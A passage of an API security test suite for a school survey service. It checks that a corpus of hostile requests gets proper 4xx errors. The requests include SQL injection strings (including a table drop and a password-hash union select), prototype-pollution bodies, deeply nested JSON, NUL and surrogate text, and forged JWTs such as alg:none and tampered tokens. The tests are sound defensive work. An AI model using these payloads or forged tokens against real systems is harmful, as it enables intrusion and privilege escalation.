// Hostile input: a corpus of bad requests against every public endpoint and a representative
// set of staff ones. Each gets the right 4xx in the API's error shape with a message; after the
// whole corpus the server still answers its health check and no table has changed. Cases that
// show a product defect are kept as `it.fails` naming the defect (see DEFECTS) so that the suite
// stays green until the fix lands, and then fails to say the marker can go.
import { randomUUID } from 'node:crypto';
import { createSigner } from 'fast-jwt';
import { eq } from 'drizzle-orm';
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import { beforeAll, describe, expect, it } from 'vitest';
import { organisationsTable, responsesTable } from '../../../drizzle/schema/index.ts';
import { databaseState, rowCounts, type TableState } from '../../helpers/db-state.ts';
import { customSurvey } from '../../helpers/forms.ts';
import { submitPublic } from '../../helpers/scenario.ts';
import { securityFixtures } from '../../helpers/security-fixtures.ts';
import { createTestApp, testConfig } from '../../helpers/test-app.ts';

const t = await createTestApp({}, { now: '2026-11-24T09:00:00Z' });
const f = await securityFixtures(t);
const { admin, analyst, coordinator } = f.callers;
const secret = testConfig().jwtSecret;

// a draft of the own school's report (its response row takes the assignment's id) and a parent's
// answer stored in Kalarsky's survey, so that both ids exist when the corpus reuses them
const draft = await t.app.inject({ method: 'PUT', url: `/api/assignments/${f.assignments.own.id}/draft`, headers: coordinator.headers, payload: { data: { pupils_5_18: 400 } } });
if (draft.statusCode !== 200) throw new Error(`draft: ${draft.body}`);
const foreignResponseId = randomUUID();
const stored = await submitPublic(t, f.codes.foreign, { q_sat: 4 }, foreignResponseId);
if (stored.statusCode !== 201) throw new Error(`foreign answer: ${stored.body}`);
const me = (await t.app.inject({ url: '/api/auth/me', headers: coordinator.headers })).json() as { id: string };
const adminId = ((await t.app.inject({ url: '/api/auth/me', headers: admin.headers })).json() as { id: string }).id;

/**
 * Product defects this file finds; a case marked with one is expected to fail until it is
 * fixed. The first run found eight (NUL and lone-surrogate text reaching PostgreSQL, deep
 * nesting overflowing survey-core, a signed token without a user id, router errors outside the
 * error shape, authentication after validation, CSV formula injection, a public answer taking a
 * self-report's row); all are fixed and their cases now assert the right answer.
 */
const DEFECTS: Record<string, string> = {};
type Defect = string;

let address = 0;
/** Every request from its own address, so that per-IP rate limits never decide a case. */
const send = (req: InjectOptions) => {
  address++;
  return t.app.inject({ remoteAddress: `198.51.${(address >> 8) & 255}.${address & 255}`, ...req });
};

const json = { 'content-type': 'application/json' };
const raw = (method: 'POST' | 'PUT' | 'PATCH', url: string, body: string, headers: Record<string, string> = {}): InjectOptions => ({ method, url, headers: { ...json, ...headers }, payload: body });
const deepObject = (levels: number, leaf = '1') => '{"a":'.repeat(levels) + leaf + '}'.repeat(levels);
const deepArray = (levels: number) => '['.repeat(levels) + ']'.repeat(levels);
const MB = 1024 * 1024;
const SQL = "' or 1=1--";
const SQL_TEXTS = [SQL, "'; drop table organisations; --", '" or ""="', "1) union select password_hash from users --"];
const ODD = { lone: 'a\uD800b', nul: 'a\u0000b', rtl: 'abc\u202Egpj.exe', emoji: 'Школа 🏫👩‍👧‍👦' };

type Case = {
  name: string;
  req: () => InjectOptions;
  /** the status (or statuses) a correct server gives */
  status: number | number[];
  /** the error code, for 4xx answers */
  code?: string | RegExp;
  /** extra checks on a non-error answer (reads that treat hostile text as plain text) */
  check?: (res: LightMyRequestResponse) => void;
  defect?: Defect;
};

const login = (payload: unknown) => ({ method: 'POST', url: '/api/auth/login', payload: payload as object }) as InjectOptions;
const pub = (code = f.codes.own) => `/api/public/s/${code}`;
const answer = (data: unknown, extra: object = {}) => ({ method: 'POST', url: `${pub()}/responses`, payload: { id: randomUUID(), data, ...extra } }) as InjectOptions;
const valuesFile = (institution: string, over: { variable?: string; value?: string; format?: string } = {}) => ({
  fileName: 'values.csv', format: over.format ?? 'csv',
  content: `код ОО;переменная;период;начало периода;значение\n${institution};${over.variable ?? 'pupils_5_18'};2025/26;2025-09-01;${over.value ?? '400'}\n`,
});
const newOrganisation = (over: object) => ({ parentId: f.org.kalininsky.id, code: `hostile-${randomUUID().slice(0, 8)}`, name: 'Школа', kind: 'school', ...over });
const asAnalyst = (req: InjectOptions): InjectOptions => ({ ...req, headers: { ...analyst.headers, ...(req.headers as object) } });
const asCoordinator = (req: InjectOptions): InjectOptions => ({ ...req, headers: { ...coordinator.headers, ...(req.headers as object) } });
const draftOf = (id: string, payload: unknown) => asCoordinator({ method: 'PUT', url: `/api/assignments/${id}/draft`, payload: payload as object });
const rawDraft = (body: string) => asCoordinator(raw('PUT', `/api/assignments/${f.assignments.own.id}/draft`, body));
const bearer = (token: string) => ({ authorization: `Bearer ${token}` });
const now = Math.floor(Date.now() / 1000);
const sign = (payload: object, key = secret, algorithm: 'HS256' | 'HS512' = 'HS256') => createSigner({ key, algorithm })(payload);
const b64 = (o: object) => Buffer.from(JSON.stringify(o)).toString('base64url');
// the coordinator's real token with the payload swapped for the administrator's id
const [head, , signature] = coordinator.token.split('.');
const tampered = `${head}.${b64({ sub: adminId, iat: now, exp: now + 3600 })}.${signature}`;

const FORGED_TOKENS: [string, () => Record<string, string>, RegExp, Defect?][] = [
  ['a token signed with another key', () => bearer(sign({ sub: adminId }, 'another-secret-another-secret-another-secret')), /^auth\.invalid_token$/],
  ['an alg:none token', () => bearer(createSigner({ algorithm: 'none' })({ sub: adminId })), /^auth\.invalid_token$/],
  ['an expired token', () => bearer(sign({ sub: me.id, iat: now - 7200, exp: now - 3600 })), /^auth\.expired$/],
  ["the coordinator's token with the admin's id swapped into the payload", () => bearer(tampered), /^auth\.invalid_token$/],
  ['an HS512 token signed with the right secret (only HS256 is accepted)', () => bearer(sign({ sub: adminId }, secret, 'HS512')), /^auth\.invalid_token$/],
  ['garbage after Bearer', () => bearer('not.a.token'), /^auth\./],
  ['a 100 KB garbage token', () => bearer('x'.repeat(100_000)), /^auth\./],
  ['a Basic authorization header', () => ({ authorization: 'Basic YWRtaW5AZGVtby5sb2NhbDpkZW1vLTIwMjYh' }), /^auth\./],
  ['a forged token in the session cookie', () => ({ cookie: `session=${sign({ sub: adminId }, 'another-secret-another-secret-another-secret')}` }), /^auth\.invalid_token$/],
  ['a correctly signed token of a user that does not exist', () => bearer(sign({ sub: randomUUID(), iat: now, exp: now + 60 })), /^auth\.invalid_token$/],
  ['a correctly signed token whose sub is SQL text', () => bearer(sign({ sub: SQL, iat: now, exp: now + 60 })), /^auth\.invalid_token$/],
  ['a correctly signed token whose sub is an object', () => bearer(sign({ sub: { id: adminId }, iat: now, exp: now + 60 })), /^auth\.invalid_token$/],
  ['a correctly signed token without sub', () => bearer(sign({ iat: now, exp: now + 60 })), /^auth\.invalid_token$/],
];

const corpus: Case[] = [
  // ── POST /api/auth/login ─────────────────────────────────────────────────────────────────
  { name: 'login: malformed JSON', req: () => raw('POST', '/api/auth/login', '{"email": "admin@demo.local",'), status: 400, code: 'request.malformed_json' },
  { name: 'login: an empty JSON body', req: () => raw('POST', '/api/auth/login', ''), status: 400, code: 'request.malformed_json' },
  { name: 'login: a JSON array as the body', req: () => raw('POST', '/api/auth/login', '[]'), status: 400, code: 'request.invalid' },
  { name: 'login: null as the body', req: () => raw('POST', '/api/auth/login', 'null'), status: 400, code: /^request\./ },
  { name: 'login: a number as the body', req: () => raw('POST', '/api/auth/login', '42'), status: 400, code: 'request.invalid' },
  { name: 'login: an object nested 10 000 levels deep in email', req: () => raw('POST', '/api/auth/login', `{"email":${deepObject(10_000)},"password":"x"}`), status: 400, code: 'request.too_deep' },
  { name: 'login: an array nested 10 000 levels deep as the body', req: () => raw('POST', '/api/auth/login', deepArray(10_000)), status: 400, code: 'request.too_deep' },
  { name: 'login: a 2 MB body (over the 1 MB limit)', req: () => login({ email: 'admin@demo.local', password: 'x'.repeat(2 * MB) }), status: 413, code: 'request.too_large' },
  { name: 'login: a __proto__ key', req: () => raw('POST', '/api/auth/login', '{"email":"admin@demo.local","password":"x","__proto__":{"role":"admin"}}'), status: 400, code: /^request\./ },
  { name: 'login: a constructor.prototype key', req: () => raw('POST', '/api/auth/login', '{"email":"admin@demo.local","password":"x","constructor":{"prototype":{"role":"admin"}}}'), status: 400, code: /^request\./ },
  { name: 'login: a plain "constructor" key', req: () => login({ email: 'admin@demo.local', password: 'x', constructor: 'x' }), status: 400, code: 'request.invalid' },
  { name: 'login: a "prototype" key', req: () => login({ email: 'admin@demo.local', password: 'x', prototype: { role: 'admin' } }), status: 400, code: 'request.invalid' },
  { name: 'login: a number for email and null for password', req: () => login({ email: 12345, password: null }), status: 400, code: 'request.invalid' },
  { name: 'login: a 1 MB email (under the body limit, over the field limit)', req: () => login({ email: 'a'.repeat(1_000_000), password: 'x' }), status: 400, code: 'request.invalid' },
  { name: 'login: a lone surrogate in email', req: () => login({ email: `admin${ODD.lone}@demo.local`, password: 'demo-2026!' }), status: 400, code: 'request.invalid_text' },
  { name: 'login: an RTL override and emoji in email', req: () => login({ email: `${ODD.rtl}${ODD.emoji}@demo.local`, password: 'demo-2026!' }), status: 401, code: 'auth.invalid_credentials' },
  { name: 'login: a NUL byte in email', req: () => login({ email: `admin@demo.local${ODD.nul}`, password: 'demo-2026!' }), status: 400, code: 'request.invalid_text' },
  { name: 'login: a NUL byte in the password', req: () => login({ email: 'admin@demo.local', password: `demo-2026!${ODD.nul}` }), status: 400, code: 'request.invalid_text' },
  ...SQL_TEXTS.map((text): Case => ({ name: `login: SQL-looking email ${JSON.stringify(text)}`, req: () => login({ email: text, password: 'demo-2026!' }), status: 401, code: 'auth.invalid_credentials' })),
  ...SQL_TEXTS.map((text): Case => ({ name: `login: SQL-looking password ${JSON.stringify(text)} for the administrator`, req: () => login({ email: 'admin@demo.local', password: text }), status: 401, code: 'auth.invalid_credentials' })),
  { name: "login: the administrator's email with a SQL comment after it", req: () => login({ email: "admin@demo.local'--", password: 'x' }), status: 401, code: 'auth.invalid_credentials' },
  { name: 'login: a text/plain body', req: () => ({ method: 'POST', url: '/api/auth/login', headers: { 'content-type': 'text/plain' }, payload: 'admin@demo.local' }), status: 400, code: 'request.invalid' },
  { name: 'login: a form-encoded body', req: () => ({ method: 'POST', url: '/api/auth/login', headers: { 'content-type': 'application/x-www-form-urlencoded' }, payload: 'email=admin%40demo.local&password=x' }), status: 415, code: 'request.unsupported_media_type' },

  // ── POST /api/auth/logout ────────────────────────────────────────────────────────────────
  { name: 'logout: malformed JSON', req: () => raw('POST', '/api/auth/logout', '{"x":'), status: 400, code: 'request.malformed_json' },
  { name: 'logout: a 2 MB body', req: () => ({ method: 'POST', url: '/api/auth/logout', payload: { x: 'x'.repeat(2 * MB) } }), status: 413, code: 'request.too_large' },

  // ── GET /api/health ──────────────────────────────────────────────────────────────────────
  { name: 'health: POST is not a route', req: () => ({ method: 'POST', url: '/api/health', payload: {} }), status: 404, code: 'route.not_found' },
  { name: 'health: a forged token is ignored on a public route', req: () => ({ url: '/api/health', headers: bearer('not.a.token') }), status: 200 },
  { name: 'health: SQL text in the query string is ignored', req: () => ({ url: `/api/health?x=${encodeURIComponent(SQL)}` }), status: 200 },
  { name: 'health: a malformed JSON body on GET is ignored', req: () => ({ url: '/api/health', headers: json, payload: '{"x":' }), status: 200 },

  // ── GET /api/public/s/:code ──────────────────────────────────────────────────────────────
  ...SQL_TEXTS.map((text): Case => ({ name: `open link: SQL-looking code ${JSON.stringify(text)}`, req: () => ({ url: pub(encodeURIComponent(text)) }), status: 400, code: 'request.invalid' })),
  { name: 'open link: a NUL byte in the code', req: () => ({ url: pub('abc%00def') }), status: 400, code: 'request.invalid_text' },
  { name: 'open link: emoji in the code', req: () => ({ url: pub(encodeURIComponent('ab🏫cd')) }), status: 400, code: 'request.invalid' },
  { name: 'open link: an RTL override in the code', req: () => ({ url: pub(encodeURIComponent('ab\u202Ecd')) }), status: 400, code: 'request.invalid' },
  { name: 'open link: a code in capitals', req: () => ({ url: pub(f.codes.own.toUpperCase()) }), status: 400, code: 'request.invalid' },
  { name: 'open link: a well-formed code nobody has', req: () => ({ url: pub('zzzz9999') }), status: 404, code: 'link.not_found' },
  { name: 'open link: an unknown query parameter', req: () => ({ url: `${pub()}?admin=1` }), status: 400, code: 'request.invalid' },
  { name: 'open link: a 1 MB token in the query', req: () => ({ url: `${pub()}?t=${'a'.repeat(1_000_000)}` }), status: 400, code: 'request.invalid' },
  {
    name: 'open link: SQL text as the invitation token reads as an invalid invitation', req: () => ({ url: `${pub()}?t=${encodeURIComponent(SQL)}` }), status: 200,
    check: (res) => expect(res.json()).toMatchObject({ state: 'open', invitation: 'invalid' }),
  },
  { name: 'open link: broken percent-encoding in the path', req: () => ({ url: '/api/public/s/%E0%A4%A' }), status: 400 },
  { name: 'open link: a 200-character code', req: () => ({ url: pub('a'.repeat(200)) }), status: [400, 404, 414] },

  // ── POST /api/public/s/:code/start ───────────────────────────────────────────────────────
  { name: 'start: malformed JSON on a real code counts no start', req: () => raw('POST', `${pub()}/start`, '{"x":'), status: 400, code: 'request.malformed_json' },
  { name: 'start: a __proto__ body on a real code counts no start', req: () => raw('POST', `${pub()}/start`, '{"__proto__":{"x":1}}'), status: 400, code: /^request\./ },
  { name: 'start: a 2 MB body on a real code counts no start', req: () => ({ method: 'POST', url: `${pub()}/start`, payload: { x: 'x'.repeat(2 * MB) } }), status: 413, code: 'request.too_large' },
  { name: 'start: SQL-looking code', req: () => ({ method: 'POST', url: `${pub(encodeURIComponent(SQL))}/start` }), status: 400, code: 'request.invalid' },
  { name: 'start: a well-formed code nobody has', req: () => ({ method: 'POST', url: `${pub('zzzz9999')}/start` }), status: 404, code: 'link.not_found' },
  { name: 'start: a 10 000-level body on a code nobody has', req: () => raw('POST', `${pub('zzzz9999')}/start`, deepObject(10_000)), status: 400, code: 'request.too_deep' },

  // ── POST /api/public/s/:code/responses ───────────────────────────────────────────────────
  { name: 'answer: malformed JSON', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":{"q_sat":5}`), status: 400, code: 'request.malformed_json' },
  { name: 'answer: a 300 KB body (over the 256 KB limit of this route)', req: () => answer({ q_sat: 1, why: 'x'.repeat(300 * 1024) }), status: 413, code: 'request.too_large' },
  { name: 'answer: a 1 MB string in one answer', req: () => answer({ q_sat: 1, why: 'x'.repeat(MB) }), status: 413, code: 'request.too_large' },
  { name: 'answer: a 200 KB free-text answer (under the body limit, over the 5000-character answer limit)', req: () => answer({ q_sat: 1, why: 'x'.repeat(200_000) }), status: 422, code: 'response.invalid' },
  { name: 'answer: 10 000 levels under an unknown key', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":{"q_sat":5,"zzz":${deepObject(10_000)}}}`), status: 400, code: 'request.too_deep' },
  { name: 'answer: 10 000 levels as the whole data', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":${deepObject(10_000)}}`), status: 400, code: 'request.too_deep' },
  { name: 'answer: 10 000 levels under a visible free-text question', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":{"q_sat":1,"why":${deepObject(10_000)}}}`), status: 400, code: 'request.too_deep' },
  { name: 'answer: 10 000 nested arrays under a rating question', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":{"q_sat":${deepArray(10_000)}}}`), status: 400, code: 'request.too_deep' },
  { name: 'answer: a __proto__ key at the top level', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":{"q_sat":5},"__proto__":{"x":1}}`), status: 400, code: /^request\./ },
  { name: 'answer: a __proto__ key inside data', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":{"q_sat":5,"__proto__":{"isAdmin":true}}}`), status: 400, code: /^request\./ },
  { name: 'answer: a constructor.prototype key inside data', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":{"q_sat":5,"constructor":{"prototype":{"x":1}}}}`), status: 400, code: /^request\./ },
  { name: 'answer: a plain "constructor" key inside data', req: () => answer({ q_sat: 5, constructor: 'x' }), status: 422, code: 'response.invalid' },
  { name: 'answer: a "prototype" key inside data', req: () => answer({ q_sat: 5, prototype: { x: 1 } }), status: 422, code: 'response.invalid' },
  { name: 'answer: a "__proto__"-named question given as an ordinary key via JSON escapes', req: () => raw('POST', `${pub()}/responses`, `{"id":"${randomUUID()}","data":{"q_sat":5,"\\u005f\\u005fproto\\u005f\\u005f":{"x":1}}}`), status: 400, code: /^request\./ },
  { name: 'answer: an id that is not a uuid', req: () => ({ method: 'POST', url: `${pub()}/responses`, payload: { id: 'not-a-uuid', data: { q_sat: 5 } } }), status: 400, code: 'request.invalid' },
  { name: 'answer: a number as the id', req: () => ({ method: 'POST', url: `${pub()}/responses`, payload: { id: 42, data: { q_sat: 5 } } }), status: 400, code: 'request.invalid' },
  { name: 'answer: data as an array', req: () => answer([5]), status: 400, code: 'request.invalid' },
  { name: 'answer: data as null', req: () => answer(null), status: 400, code: 'request.invalid' },
  { name: 'answer: data as a string', req: () => answer('q_sat=5'), status: 400, code: 'request.invalid' },
  { name: 'answer: an extra top-level field', req: () => answer({ q_sat: 5 }, { status: 'accepted' }), status: 400, code: 'request.invalid' },
  { name: 'answer: "5" for a rating', req: () => answer({ q_sat: '5' }), status: 422, code: 'response.invalid' },
  { name: 'answer: "2" for a number', req: () => answer({ q_sat: 5, children: '2' }), status: 422, code: 'response.invalid' },
  { name: 'answer: an object for a choice', req: () => answer({ q_sat: 5, age_group: { value: '3-4' } }), status: 422, code: 'response.invalid' },
  { name: 'answer: a 1000-character key', req: () => answer({ q_sat: 5, ['k'.repeat(1000)]: 1 }), status: [400, 422], code: /^(request|response)\.invalid$/ },
  { name: 'answer: nothing but an empty data', req: () => answer({}), status: 422, code: /^response\./ },
  { name: 'answer: a NUL byte in a free-text answer', req: () => answer({ q_sat: 1, why: `плохо${ODD.nul}` }), status: 400, code: 'request.invalid_text' },
  { name: 'answer: a lone surrogate in a free-text answer', req: () => answer({ q_sat: 1, why: `плохо${ODD.lone}` }), status: 400, code: 'request.invalid_text' },
  { name: 'answer: a NUL byte as a choice', req: () => answer({ q_sat: 5, age_group: `3-4${ODD.nul}` }), status: 400, code: 'request.invalid_text' },
  ...SQL_TEXTS.map((text): Case => ({ name: `answer: SQL-looking id ${JSON.stringify(text)}`, req: () => ({ method: 'POST', url: `${pub()}/responses`, payload: { id: text, data: { q_sat: 5 } } }), status: 400, code: 'request.invalid' })),
  ...SQL_TEXTS.map((text): Case => ({ name: `answer: SQL-looking key ${JSON.stringify(text)}`, req: () => answer({ q_sat: 5, [text]: 1 }), status: 422, code: 'response.invalid' })),
  ...SQL_TEXTS.map((text): Case => ({ name: `answer: SQL-looking choice ${JSON.stringify(text)}`, req: () => answer({ q_sat: 5, age_group: text }), status: 422, code: 'response.invalid' })),
  { name: 'answer: SQL-looking code in the path', req: () => ({ method: 'POST', url: `${pub(encodeURIComponent(SQL))}/responses`, payload: { id: randomUUID(), data: { q_sat: 5 } } }), status: 400, code: 'request.invalid' },
  { name: "answer: the id of another school's stored answer", req: () => ({ method: 'POST', url: `${pub()}/responses`, payload: { id: foreignResponseId, data: { q_sat: 1, why: 'перезапись' } } }), status: 409, code: 'response.id_taken' },
  { name: "answer: the id of the own school's self-report draft", req: () => ({ method: 'POST', url: `${pub()}/responses`, payload: { id: f.assignments.own.id, data: { q_sat: 5 } } }), status: 409, code: 'response.id_taken' },
  { name: "answer: another school's personal invitation token", req: () => answer({ q_sat: 5 }, { token: f.invitationToken }), status: 409, code: 'invitation.used' },
  { name: 'answer: SQL text as the invitation token', req: () => answer({ q_sat: 5 }, { token: SQL }), status: 400, code: 'request.invalid' },

  // ── GET /api/public/unsubscribe ──────────────────────────────────────────────────────────
  { name: 'unsubscribe: no token', req: () => ({ url: '/api/public/unsubscribe' }), status: 400, code: 'request.invalid' },
  { name: 'unsubscribe: a token too short', req: () => ({ url: '/api/public/unsubscribe?t=abc' }), status: 400, code: 'request.invalid' },
  { name: 'unsubscribe: a 1 MB token', req: () => ({ url: `/api/public/unsubscribe?t=${'a'.repeat(MB)}` }), status: 400, code: 'request.invalid' },
  { name: 'unsubscribe: an extra query parameter', req: () => ({ url: `/api/public/unsubscribe?t=${'a'.repeat(30)}&all=1` }), status: 400, code: 'request.invalid' },
  {
    // a person follows this link from a mail: the answer is a page, not JSON; the button posts the token
    name: 'unsubscribe: an unknown token finds nothing and says so on a page', req: () => ({ method: 'POST', url: '/api/public/unsubscribe', headers: { 'content-type': 'application/x-www-form-urlencoded' }, payload: `t=${'z'.repeat(40)}` }), status: 404,
    check: (res) => { expect(res.headers['content-type']).toMatch(/text\/html/); expect(res.body).toContain('Ссылка не найдена'); },
  },
  { name: 'unsubscribe: a SQL-looking token is refused', req: () => ({ url: `/api/public/unsubscribe?t=${encodeURIComponent(`${SQL} padding-to-20-chars`)}` }), status: 400, code: 'request.invalid' },
  {
    name: 'unsubscribe: the link only shows a confirmation button (a mail scanner changes nothing)', req: () => ({ url: `/api/public/unsubscribe?t=${'z'.repeat(40)}` }), status: 200,
    check: (res) => expect(res.body).toContain('<form method="post"'),
  },
  { name: 'unsubscribe: a NUL byte in the token', req: () => ({ url: `/api/public/unsubscribe?t=${'a'.repeat(30)}%00` }), status: 400 },

  // ── forged tokens on staff routes ────────────────────────────────────────────────────────
  ...FORGED_TOKENS.flatMap(([label, headers, code, defect]): Case[] => [
    { name: `GET /api/auth/me with ${label}`, req: () => ({ url: '/api/auth/me', headers: headers() }), status: 401, code, defect },
    { name: `POST /api/organisations with ${label}`, req: () => ({ method: 'POST', url: '/api/organisations', headers: headers(), payload: newOrganisation({}) }), status: 401, code, defect },
  ]),

  // ── organisations ────────────────────────────────────────────────────────────────────────
  { name: 'create organisation: malformed JSON', req: () => asAnalyst(raw('POST', '/api/organisations', '{"parentId":')), status: 400, code: 'request.malformed_json' },
  { name: 'create organisation: 10 000 levels in name', req: () => asAnalyst(raw('POST', '/api/organisations', `{"parentId":"${f.org.kalininsky.id}","code":"hostile-deep","kind":"school","name":${deepObject(10_000)}}`)), status: 400, code: 'request.too_deep' },
  { name: 'create organisation: a 2 MB body', req: () => asAnalyst({ method: 'POST', url: '/api/organisations', payload: newOrganisation({ name: 'x'.repeat(2 * MB) }) }), status: 413, code: 'request.too_large' },
  { name: 'create organisation: a 1 MB name', req: () => asAnalyst({ method: 'POST', url: '/api/organisations', payload: newOrganisation({ name: 'x'.repeat(1_000_000) }) }), status: 400, code: 'request.invalid' },
  { name: 'create organisation: a __proto__ key', req: () => asAnalyst(raw('POST', '/api/organisations', JSON.stringify(newOrganisation({})).replace(/}$/, ',"__proto__":{"level":"root"}}'))), status: 400, code: /^request\./ },
  { name: 'create organisation: a constructor.prototype key', req: () => asAnalyst(raw('POST', '/api/organisations', JSON.stringify(newOrganisation({})).replace(/}$/, ',"constructor":{"prototype":{"level":"root"}}}'))), status: 400, code: /^request\./ },
  { name: 'create organisation: a level field (not settable)', req: () => asAnalyst({ method: 'POST', url: '/api/organisations', payload: newOrganisation({ level: 'region' }) }), status: 400, code: 'request.invalid' },
  { name: 'create organisation: a number for name', req: () => asAnalyst({ method: 'POST', url: '/api/organisations', payload: newOrganisation({ name: 12345 }) }), status: 400, code: 'request.invalid' },
  { name: 'create organisation: a NUL byte in name', req: () => asAnalyst({ method: 'POST', url: '/api/organisations', payload: newOrganisation({ name: `Школа${ODD.nul}` }) }), status: 400, code: 'request.invalid_text' },
  ...SQL_TEXTS.map((text): Case => ({ name: `create organisation: SQL-looking code ${JSON.stringify(text)}`, req: () => asAnalyst({ method: 'POST', url: '/api/organisations', payload: newOrganisation({ code: text }) }), status: 400, code: 'request.invalid' })),
  { name: 'create organisation: SQL-looking parentId', req: () => asAnalyst({ method: 'POST', url: '/api/organisations', payload: newOrganisation({ parentId: SQL }) }), status: 400, code: 'request.invalid' },
  { name: "create organisation: under another region's municipality", req: () => asAnalyst({ method: 'POST', url: '/api/organisations', payload: newOrganisation({ parentId: f.org.kalarsky.id }) }), status: 404, code: 'organisation.not_found' },
  { name: 'update organisation: SQL-looking id in the path', req: () => asAnalyst({ method: 'PATCH', url: `/api/organisations/${encodeURIComponent(SQL)}`, payload: { name: 'x' } }), status: 400, code: 'request.invalid' },
  { name: "update organisation: another region's school", req: () => asAnalyst({ method: 'PATCH', url: `/api/organisations/${f.org.kalarskySosh1.id}`, payload: { name: 'Захвачено' } }), status: 404, code: 'organisation.not_found' },
  { name: 'update organisation: an empty patch', req: () => asAnalyst({ method: 'PATCH', url: `/api/organisations/${f.org.sosh1.id}`, payload: {} }), status: 400, code: 'request.invalid' },
  { name: 'update organisation: moving it by parentId', req: () => asAnalyst({ method: 'PATCH', url: `/api/organisations/${f.org.sosh1.id}`, payload: { parentId: f.org.kalarsky.id } }), status: 400, code: 'request.invalid' },
  { name: 'import: a municipality of another region', req: () => asAnalyst({ method: 'POST', url: '/api/organisations/import', payload: { municipalityId: f.org.kalarsky.id, csv: 'code,name,kind\nhostile-imp,Школа,school\n' } }), status: 404, code: 'organisation.not_found' },
  { name: 'import: a CSV with a SQL-looking code', req: () => asAnalyst({ method: 'POST', url: '/api/organisations/import', payload: { municipalityId: f.org.kalininsky.id, csv: `code,name,kind\n"${SQL}",Школа,school\n` } }), status: 422, code: 'organisation.import_invalid' },
  { name: 'import: a CSV that is not CSV', req: () => asAnalyst({ method: 'POST', url: '/api/organisations/import', payload: { municipalityId: f.org.kalininsky.id, csv: 'code,name,kind\n"unterminated,Школа,school\n' } }), status: 422, code: 'organisation.import_invalid' },
  {
    name: 'list organisations: SQL text as the search finds nothing', req: () => asAnalyst({ url: `/api/organisations?q=${encodeURIComponent(SQL)}` }), status: 200,
    check: (res) => expect(res.json()).toEqual([]),
  },
  {
    name: 'list organisations: LIKE wildcards in the search match literally', req: () => asAnalyst({ url: `/api/organisations?q=${encodeURIComponent('%_%')}` }), status: 200,
    check: (res) => expect(res.json()).toEqual([]),
  },
  { name: 'list organisations: a NUL byte in the search', req: () => asAnalyst({ url: '/api/organisations?q=%00' }), status: 400, code: 'request.invalid_text' },
  { name: 'list organisations: a parentId that is SQL text', req: () => asAnalyst({ url: `/api/organisations?parentId=${encodeURIComponent(SQL)}` }), status: 400, code: 'request.invalid' },

  // ── users ────────────────────────────────────────────────────────────────────────────────
  { name: 'add user: an analyst making an administrator', req: () => asAnalyst({ method: 'POST', url: '/api/users', payload: { email: 'boss@kalininsky.demo', name: 'X', password: 'long-enough-1', role: 'admin', organisationId: f.org.kalininsky.id } }), status: 403, code: 'auth.forbidden' },
  { name: 'add user: the role smuggled in __proto__', req: () => asAnalyst(raw('POST', '/api/users', `{"email":"p@kalininsky.demo","name":"X","password":"long-enough-1","organisationId":"${f.org.gym.id}","__proto__":{"role":"admin"}}`)), status: 400, code: /^request\./ },
  { name: "add user: a coordinator for another region's school", req: () => asAnalyst({ method: 'POST', url: '/api/users', payload: { email: 'x@kalarsky.demo', name: 'X', password: 'long-enough-1', role: 'coordinator', organisationId: f.org.kalarskyGym.id } }), status: 404, code: 'organisation.not_found' },
  ...SQL_TEXTS.map((text): Case => ({ name: `add user: SQL-looking email ${JSON.stringify(text)}`, req: () => asAnalyst({ method: 'POST', url: '/api/users', payload: { email: text, name: 'X', password: 'long-enough-1', role: 'coordinator', organisationId: f.org.gym.id } }), status: 400, code: 'request.invalid' })),
  { name: 'add user: an unknown role', req: () => asAnalyst({ method: 'POST', url: '/api/users', payload: { email: 'r@kalininsky.demo', name: 'X', password: 'long-enough-1', role: 'root', organisationId: f.org.gym.id } }), status: 400, code: 'request.invalid' },
  { name: 'add user: a NUL byte in the name', req: () => asAnalyst({ method: 'POST', url: '/api/users', payload: { email: 'nul@kalininsky.demo', name: `Имя${ODD.nul}`, password: 'long-enough-1', role: 'coordinator', organisationId: f.org.gym.id } }), status: 400, code: 'request.invalid_text' },

  // ── self-reports ─────────────────────────────────────────────────────────────────────────
  { name: 'draft: malformed JSON', req: () => rawDraft('{"data":{"pupils_5_18":4'), status: 400, code: 'request.malformed_json' },
  { name: 'draft: 10 000 levels under a number question', req: () => rawDraft(`{"data":{"pupils_5_18":${deepObject(10_000)}}}`), status: 400, code: 'request.too_deep' },
  { name: 'draft: 10 000 levels under an unknown key', req: () => rawDraft(`{"data":{"zzz":${deepObject(10_000)}}}`), status: 400, code: 'request.too_deep' },
  { name: 'draft: a __proto__ key inside data', req: () => rawDraft('{"data":{"pupils_5_18":1,"__proto__":{"status":"accepted"}}}'), status: 400, code: /^request\./ },
  { name: 'draft: a constructor.prototype key inside data', req: () => rawDraft('{"data":{"constructor":{"prototype":{"status":"accepted"}}}}'), status: 400, code: /^request\./ },
  { name: 'draft: a "constructor" answer', req: () => draftOf(f.assignments.own.id, { data: { constructor: 1 } }), status: 422, code: 'response.invalid' },
  { name: 'draft: a 1 MB string for a number', req: () => draftOf(f.assignments.own.id, { data: { pupils_5_18: 'x'.repeat(1_000_000) } }), status: 422, code: 'response.invalid' },
  { name: 'draft: a NUL byte for a number', req: () => draftOf(f.assignments.own.id, { data: { pupils_5_18: `1${ODD.nul}` } }), status: 400, code: 'request.invalid_text' },
  { name: 'draft: Infinity-like text for a number', req: () => draftOf(f.assignments.own.id, { data: { pupils_5_18: 'Infinity' } }), status: 422, code: 'response.invalid' },
  { name: 'draft: 1e400 for a number', req: () => rawDraft('{"data":{"pupils_5_18":1e400}}'), status: 422, code: 'response.invalid' },
  { name: 'draft: a status field beside data', req: () => draftOf(f.assignments.own.id, { data: {}, status: 'accepted' }), status: 400, code: 'request.invalid' },
  { name: 'draft: SQL-looking id in the path', req: () => draftOf(encodeURIComponent(SQL), { data: {} }), status: 400, code: 'request.invalid' },
  { name: "draft: a sibling school's assignment", req: () => draftOf(f.assignments.sibling.id, { data: { pupils_5_18: 1 } }), status: 404, code: 'assignment.not_found' },
